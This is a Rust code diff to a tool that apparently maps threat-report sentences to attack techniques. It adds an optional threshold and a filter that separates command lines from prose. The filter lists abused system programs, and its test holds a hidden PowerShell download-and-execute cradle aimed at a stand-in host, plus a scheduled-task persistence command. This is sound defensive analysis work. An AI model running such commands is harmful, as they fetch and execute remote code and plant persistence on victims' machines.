@@ -25,17 +25,19 @@ pub struct Found {
     pub sentence: String,
 }
 
-/// Map a whole report: each prose sentence's top techniques at or above `threshold`, per technique
-/// the best score, the number of supporting sentences and the best sentence; strongest first.
+/// Map a whole report: each prose sentence's top techniques at or above the threshold (`threshold`,
+/// else the model's own), per technique the best score, the number of supporting sentences and the
+/// best sentence; strongest first.
 pub fn map_document(
     m: &super::Mapper,
     text: &str,
-    threshold: f64,
+    threshold: Option<f64>,
     s: &mut super::Scratch,
 ) -> Vec<Found> {
     let mut found: Vec<Found> = Vec::new();
     let mut at: std::collections::HashMap<usize, usize> = std::collections::HashMap::new();
     for sentence in prose_sentences(text) {
+        let threshold = m.threshold_for_text(threshold, &sentence);
         for r in m.top_k(&sentence, PER_SENTENCE, s) {
             if r.score < threshold || r.score <= 0.0 {
                 continue;
@@ -414,9 +416,40 @@ fn ends_sentence(word: &str, next: &str) -> bool {
     true
 }
 
+/// Whether a text reads as prose and not as a command line: what the score calibration was fitted on.
+pub fn reads_as_prose(s: &str) -> bool {
+    is_prose(s) && !looks_like_command(s)
+}
+
+/// A command line: it starts with a program (`powershell.exe`, `/bin/sh`, `cmd /c`) or many of
+/// its words are switches, paths or code.
+fn looks_like_command(s: &str) -> bool {
+    let words: Vec<&str> = s.split_whitespace().collect();
+    let Some(first) = words.first() else {
+        return false;
+    };
+    let first = first.trim_matches(|c: char| matches!(c, '"' | '\'' | '`')).to_ascii_lowercase();
+    let program = [".exe", ".ps1", ".sh", ".bat", ".cmd", ".vbs", ".py"]
+        .iter()
+        .any(|e| first.ends_with(e))
+        || first.starts_with('/')
+        || first.contains('\\')
+        || ["cmd", "powershell", "pwsh", "bash", "sh", "curl", "wget", "sudo", "reg", "schtasks", "wmic", "net", "certutil", "rundll32", "regsvr32", "mshta", "bitsadmin", "nc"]
+            .contains(&first.as_str());
+    let code = words
+        .iter()
+        .filter(|w| {
+            w.starts_with('-') && w.len() > 1
+                || w.starts_with('/') && w.len() > 1
+                || w.contains(['\\', '=', '(', ')', '{', '}', '$', '%', '|', ';', '<', '>'])
+        })
+        .count();
+    program || code * 10 >= words.len() * 3
+}
+
 /// Whether a sentence reads as prose: enough words, most of them words rather than indicators,
 /// numbers or symbols.
-fn is_prose(s: &str) -> bool {
+pub fn is_prose(s: &str) -> bool {
     let words: Vec<&str> = s.split_whitespace().collect();
     if words.len() < MIN_WORDS {
         return false;
@@ -505,6 +538,19 @@ mod tests {
              and `cmd.exe` to run commands.",
         );
         assert_eq!(s, vec!["The group relies on PowerShell and cmd.exe to run commands."]);
+    }
+
+    #[test]
+    fn command_lines_are_not_prose() {
+        assert!(!reads_as_prose(
+            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\""
+        ));
+        assert!(!reads_as_prose(
+            "schtasks /create /sc onlogon /tn Updater /tr C:\\Users\\Public\\a.exe"
+        ));
+        assert!(reads_as_prose(
+            "The attackers dumped credentials from LSASS process memory (with Mimikatz)."
+        ));
     }
 
     #[test]
